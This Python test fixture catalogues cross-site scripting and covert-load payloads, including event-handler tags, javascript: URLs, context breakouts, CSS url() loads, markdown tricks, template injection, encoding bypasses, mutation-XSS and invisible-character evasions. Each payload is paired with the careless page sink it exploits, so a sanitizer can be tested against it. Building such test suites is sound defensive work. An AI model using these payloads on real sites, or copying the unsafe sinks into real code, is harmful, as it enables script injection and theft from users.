"""Texts that become a program, or a load from elsewhere, on a page that is careless; each with the carelessness that it waits for.

Vectors times contexts: what runs or loads, and the way in which careless pages put a text into their document. `CARELESS` holds those
pages, so that a test can first see every text do its work, and then see it do nothing.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """A text; on a page that inserts it by ``CARELESS[way]`` it calls ``top.ran(number)`` or asks the canary for ``/number``."""

    number: int
    way: str
    text: str


# What each careless page does with a text: `page` is a document of its own, `insert` sets the HTML of its body.
CARELESS = {
    "html": "insert(text)",
    "write": "page.open(); page.write(text); page.close()",
    "pieces": "page.open(); for (const piece of text.match(/[^]{1,3}/gu)) page.write(piece); page.close()",
    "twice": "insert(text); insert(page.body.innerHTML)",  # as a sanitizer does that reads what it has written
    "double": """insert('<input value="' + text + '">')""",
    "single": """insert("<input value='" + text + "'>")""",
    "bare": "insert('<input value=' + text + '>')",
    "textarea": "insert('<textarea>' + text + '</textarea>')",
    "title": "page.open(); page.write('<title>' + text + '</title>'); page.close()",
    "comment": "insert('<!-- ' + text + ' -->')",
    "style": "insert('<style>p { color: ' + text + ' }</style><p>x</p>')",
    "css": """insert('<p style="color: ' + text + '">x</p>')""",
    "script": """page.open(); page.write('<script>var said = "' + text + '"</' + 'script>'); page.close()""",
    "quoted": """page.open(); page.write("<script>var said = '" + text + "'</" + "script>"); page.close()""",
    "backtick": "page.open(); page.write('<script>var said = `' + text + '`</' + 'script>'); page.close()",
    "handler": """insert('<p onclick="void(\\'' + text.replaceAll('"', '&quot;') + '\\')">x</p>')""",
    "href": "const link = page.createElement('a'); link.textContent = 'x'; link.href = text; page.body.append(link)",
    "frame": "const inner = page.createElement('iframe'); inner.src = text; page.body.append(inner)",
    "markdown": r"""insert(text.replace(/^\[(\w+)\]: *(\S+)$/gm, (_, name, url) => { refs[name] = url; return '' })
        .replace(/!\[([^\]]*)\]\[(\w+)\]/g, (_, alt, name) => `<img alt="${alt}" src="${refs[name]}">`)
        .replace(/!\[([^\]]*)\]\(([^]*)\)/g, '<img alt="$1" src="$2">')
        .replace(/\[([^\]]*)\]\(([^]*)\)/g, '<a href="$2">$1</a>')
        .replace(/<(javascript:[^>]*)>/g, '<a href="$1">x</a>'))""",
    "entities": "const field = page.createElement('textarea'); field.innerHTML = text; insert(field.value)",
    "escapes": r"""insert(text.replace(/\\u\{?([0-9a-f]{2,6})\}?|\\x([0-9a-f]{2})/gi,
        (_, long, short) => String.fromCodePoint(parseInt(long || short, 16))))""",
    "percent": "insert(decodeURIComponent(text))",
    "folded": "insert(text.normalize('NFKC'))",
    "stripped": r"insert(text.replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g, ''))",
    "template": r"text.replace(/\{\{(.*?)\}\}|\$\{(.*?)\}|<%=(.*?)%>|#\{(.*?)\}/gs, (_, ...code) => frame.eval(code.find(Boolean)))",
}

ELEMENTS = (  # by innerHTML they run, or wait for a click, a focus or a pointer
    "<img src=x onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<img/src='x'/onerror=RUN>", "<img\nsrc=x\nonerror\n=\nRUN\n>",
    "<image src=x onerror=RUN>", "<svg><image href=x onerror=RUN></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x dur=1s>", "<video src=x onerror=RUN>", "<video><source src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN>", "<picture><source srcset=x><img onerror=RUN></picture>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>", "<iframe src=javascript:RUN></iframe>", "<iframe onload=RUN></iframe>",
    "<object data=x onerror=RUN></object>", "<link rel=stylesheet href=x onerror=RUN>", "<style onload=RUN></style>",
    "<details open ontoggle=RUN><summary>x</summary></details>", "<input autofocus onfocus=RUN>", "<p tabindex=0 onfocus=RUN>x</p>",
    "<p onmouseover=RUN>x</p>", "<button onclick=RUN>x</button>", "<form action=javascript:RUN><button>x</button></form>",
    "<form><button formaction=javascript:RUN>x</button></form>", "<a href=javascript:RUN>x</a>",
    "<svg><a href=javascript:RUN><text y=9>x</text></a></svg>", "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "<map name=m><area shape=default href=javascript:RUN></map><img usemap=#m>",
    "<p style='animation:a 1ms' onanimationend=RUN>x</p><style>@keyframes a{to{top:0}}</style>",
    "<math><mi tabindex=0 onfocus=RUN>x</mi></math>", "<p contenteditable onfocus=RUN>x</p>",
)  # fmt: skip
DOCUMENTS = (  # as a document of its own, which also runs scripts
    ("write", "<script>RUN</script>"), ("write", "<ScRiPt >RUN</sCrIpT>"), ("write", "<script src=LOAD></script>"),
    ("write", "<body onload=RUN>"), ("write", "<svg><script>RUN</script></svg>"), ("write", "<script\x0ctype=module>RUN</script>"),
    ("write", "<svg onload=RUN>"), ("pieces", "<script>RUN</script>"), ("pieces", "<img src=x onerror=RUN>"),
    ("pieces", "<iframe srcdoc='<script>RUN</script>'>"), ("write", "<base href=LOAD/><img src=x>"),
)  # fmt: skip
ENDS = {  # what ends the place that a text was put into
    "double": '">', "single": "'>", "bare": "x>", "textarea": "</textarea>", "title": "</title>", "comment": "-->", "style": "</style>",
    "script": "</script>", "css": '">',
}  # fmt: skip
AFTER = ("<img src=x onerror=RUN>", "<iframe onload=RUN></iframe>")
INSIDE = (  # without leaving it
    ("double", '" autofocus onfocus=RUN x="'), ("double", '"onfocus="RUN"autofocus="'), ("single", "' autofocus onfocus=RUN x='"),
    ("bare", "x autofocus onfocus=RUN"), ("script", '"+RUN+"'), ("script", '";RUN;"'), ("script", '"\nRUN//'), ("quoted", "'-RUN-'"),
    ("quoted", "';RUN//"), ("backtick", "${RUN}"), ("backtick", "`-RUN-`"), ("handler", "');RUN;('"), ("handler", "&#39;);RUN;(&#39;"),
    ("handler", "&apos;-RUN-&apos;"), ("css", "red;background:url(LOAD)"), ("css", "red;background:image-set('LOAD' 1x)"),
    ("css", "red;list-style:url(LOAD);display:list-item"), ("css", "red;ba\\63kground:u\\72l(LOAD)"),
    ("style", "red;background:url(LOAD)"), ("style", "red;border-image:url(LOAD) 1;border-style:solid"),
    ("style", "red}@font-face{font-family:f;src:url(LOAD)}p{font-family:f"),
)  # fmt: skip
LINKS = (  # addresses, in a link that is clicked
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", "  javascript:RUN",
    "javascript://x%0aRUN", "javascript:/*x*/RUN", "javascript:%74op.ran(NUMBER)",
)  # fmt: skip
FRAMES = (  # and in a frame
    "javascript:RUN", "data:text/html,<img src=LOAD>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('LOAD')</script></svg>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:RUN)", "[x](JAVASCRIPT:RUN)", "[x](java\tscript:RUN)", "[x](javascript&colon;RUN)", "[x](&#106;avascript:RUN)",
    '[x](x" onfocus="RUN" autofocus="x)', '![x](x" onerror="RUN)', '![x" onerror="RUN](x)', "![x](LOAD)", "![x][y]\n[y]: LOAD",
    "<javascript:RUN>",
)  # fmt: skip
LOADS = (  # nothing runs, and yet somebody hears of it
    "<img src=LOAD>", "<img srcset='LOAD 1x'>", "<picture><source srcset=LOAD><img></picture>", "<svg><image href=LOAD /></svg>",
    "<svg><use href=LOAD#x /></svg>", "<svg><filter id=f><feImage href=LOAD /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "<video poster=LOAD></video>", "<video src=LOAD></video>", "<audio src=LOAD></audio>", "<iframe src=LOAD></iframe>",
    "<object data=LOAD></object>", "<embed src=LOAD>", "<input type=image src=LOAD>", "<table background=LOAD><td>x</table>",
    "<link rel=stylesheet href=LOAD>", "<link rel=preload as=image href=LOAD>", "<style>@import 'LOAD';</style>",
    "<style>p{background:url(LOAD)}</style><p>x</p>", "<p style=background:url(LOAD)>x</p>", "<a href=# ping=LOAD>x</a>",
    "<meta http-equiv=refresh content='0;url=LOAD'>", "<form action=LOAD><button>x</button></form>",
    "<a href=LOAD>x</a>",
)  # fmt: skip
ENCODED = (
    ("entities", "&lt;img src=x onerror=RUN&gt;"), ("entities", "&#60;img src=x onerror=RUN&#62;"),
    ("entities", "&#x3c;style onload=RUN&#x3E;"), ("entities", "&lt;img src=LOAD>"), ("entities", "&LT;iframe onload=RUN&GT;"),
    ("entities", "&#0000060img src=x onerror=RUN>"), ("html", "<img src=x onerror=&#116;op.ran(NUMBER)>"),
    ("html", "<a href='&#x6a;&#97;vascript:RUN'>x</a>"), ("html", "<a href=java&Tab;script&colon;RUN>x</a>"),
    ("html", "<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>"), ("escapes", "\\u003cimg src=x onerror=RUN\\u003e"),
    ("escapes", "\\x3cstyle onload=RUN\\x3e"), ("escapes", "\\u{3c}iframe onload=RUN>"),
    ("html", "<img src=x onerror=\\u0074op.ran(NUMBER)>"), ("percent", "%3Cimg%20src=x%20onerror=RUN%3E"),
    ("folded", "＜img src=x onerror=RUN＞"), ("folded", "﹤style onload=RUN﹥"),
)  # fmt: skip
TEMPLATES = ("{{RUN}}", "{{constructor.constructor('RUN')()}}", "${RUN}", "<%=RUN%>", "#{RUN}", "{{[].map.constructor`RUN```}}")
MUTATIONS = (  # harmless at the first sight of many a sanitizer: how it is read depends on what stands around it
    ("twice", "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>"),
    ("html", "<svg></p><style><a id='</style><img src=x onerror=RUN>'>"),
    ("html", "<noscript><p title='</noscript><img src=x onerror=RUN>'>"),
    ("html", "<xmp><p title='</xmp><img src=x onerror=RUN>'>"), ("html", "<iframe><p title='</iframe><img src=x onerror=RUN>'>"),
    ("html", "<noembed><p title='</noembed><img src=x onerror=RUN>'>"), ("html", "<!--><img src=x onerror=RUN>-->"),
    ("html", "<!foo='><img src=x onerror=RUN>'>"), ("html", "</ ><img src=x onerror=RUN>"), ("html", "<?x ><img src=x onerror=RUN>?>"),
    ("html", "<![CDATA[><img src=x onerror=RUN>]]>"),
)  # fmt: skip
UNSEEN = (  # characters that a reader does not see, and some filters neither
    ("html", "\0<img src=x onerror=RUN>"), ("html", "<img\x0csrc=x\x0conerror=RUN>"), ("html", "<img src=x onerror='\x0bRUN'>"),
    ("html", "<img src=x onerror='\u2028RUN'>"), ("html", "<img src=x onerror='\ufeffRUN'>"),
    ("html", "<img src=x onerror='\u00a0RUN'>"), ("html", "\u202e<img src=x onerror=RUN>\u202c"),
    ("html", "\u2066<style onload=RUN></style>\u2069"),
    ("html", "\u200b<iframe onload=RUN></iframe>"), ("html", "\x1b[31m<img src=x onerror=RUN>\x1b[0m"),
    ("html", "\x1b]8;;LOAD\x07x<img src=LOAD>\x1b]8;;\x07"), ("html", "\r<img\rsrc=x\ronerror=RUN>"),
    ("html", "🏴\U000e0067\U000e007f<img src=x onerror=RUN>"), ("html", "e\u0301\u0301\u0301<img src=x onerror=RUN>"),
    ("stripped", "<im\0g src=x onerror=RUN>"), ("stripped", "<i\u200bmg src=x on\u00aderror=RUN>"),
    ("stripped", "<im\x08g src=x onerr\x7for=RUN>"), ("stripped", "<\ufeffimg src=x onerror=\u202eRUN>"),
)  # fmt: skip


def hostile_texts(canary: str) -> list[Hostile]:
    """All of them, each with its number in it. `canary`: the address, without a path, that none of them may reach."""
    found: list[tuple[str, str]] = [("html", text) for text in (*ELEMENTS, *LOADS)]
    found += [*DOCUMENTS, *((way, end + vector) for way, end in ENDS.items() for vector in AFTER), *INSIDE]
    found += [("href", link) for link in LINKS] + [("frame", frame) for frame in FRAMES]
    found += [("markdown", text) for text in MARKDOWN] + [("template", text) for text in TEMPLATES]
    found += [*ENCODED, *MUTATIONS, *UNSEEN]
    known = {"RUN": "top.ran({})", "LOAD": canary + "/{}", "NUMBER": "{}"}
    return [Hostile(number, way, _numbered(text, number, known)) for number, (way, text) in enumerate(found)]


def _numbered(text: str, number: int, known: dict[str, str]) -> str:
    for word, meaning in known.items():
        text = text.replace(word, meaning.format(number))
    return text
